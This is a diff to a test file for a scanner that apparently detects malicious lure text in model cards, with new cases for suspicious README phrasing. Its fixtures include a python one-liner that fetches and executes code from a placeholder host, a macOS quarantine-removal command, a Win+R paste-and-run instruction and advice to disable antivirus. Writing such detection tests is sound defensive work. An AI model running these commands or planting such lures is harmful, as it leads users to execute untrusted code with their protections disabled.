@@ -17,6 +17,14 @@ WEIGHTS = ("model.safetensors",)
         ("[download](https://drive.google.com/uc/models.zip)", "medium"),
         ("Turn off Windows Defender before you start.", "medium"),
         ("Click *More info*, then *Run anyway*.", "medium"),
+        ("\u8fd0\u884c\u524d\u8bf7\u5173\u95ed\u6740\u6bd2\u8f6f\u4ef6\u3002", "medium"),
+        ("Desactiva el antivirus antes de ejecutar.", "medium"),
+        ("sudo xattr -rd com.apple.quarantine App.app", "medium"),
+        ("Press Win + R, then CTRL + V and Enter.", "high"),
+        ("Get the full weights in our channel: https://t.me/channel", "medium"),
+        ("Weights: https://bit.ly/3abc", "medium"),
+        ("Download https://site.invalid/setup.exe and run it.", "medium"),
+        ("python -c \"import urllib.request as u;exec(u.urlopen('http://site.invalid/a').read())\"", "high"),
     ],
 )
 def test_lures(text: str, severity: str) -> None:
@@ -54,7 +62,11 @@ def test_programs_that_lie_there() -> None:
 def test_an_archive_with_a_password() -> None:
     text = "Extract the zip with the password: 1234\n"
     assert severities("card-lure", repository({"README.md": text}, listed=("model.7z",))) == ["high"]
-    assert severities("card-lure", repository({"README.md": text}, listed=WEIGHTS)) == ["low"]
+    assert severities("card-lure", repository({"README.md": text}, listed=WEIGHTS)) == ["medium"]
+    linked = text + "Weights: https://mega.nz/file/abc\n"
+    assert severities("card-lure", repository({"README.md": linked}, listed=WEIGHTS))[0] == "high"
+    told = "It flags messages with a zip file, password: 1234.\n"
+    assert severities("card-lure", repository({"README.md": told}, listed=WEIGHTS)) == ["low"]
 
 
 def test_weights_that_are_elsewhere() -> None:
@@ -95,6 +107,19 @@ The password hashing dataset is not included. See the official documentation.
 
 def test_an_honest_card() -> None:
     assert found("card-lure", repository({"README.md": HONEST}, listed=WEIGHTS)) == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "It was not trained to disable antivirus software.",
+        "Training does not turn off the firewall.",
+        "Checkpoints are also on [Google Drive](https://drive.google.com/file/d/1abc/view).",
+        "Join our [Telegram](https://t.me/labnews) for news.",
+    ],
+)
+def test_statements_and_ordinary_links(text: str) -> None:
+    assert found("card-lure", repository({"README.md": f"# Model\n{text}\n"}, listed=WEIGHTS)) == []
 
 
 def test_other_markdown_weighs_less() -> None:
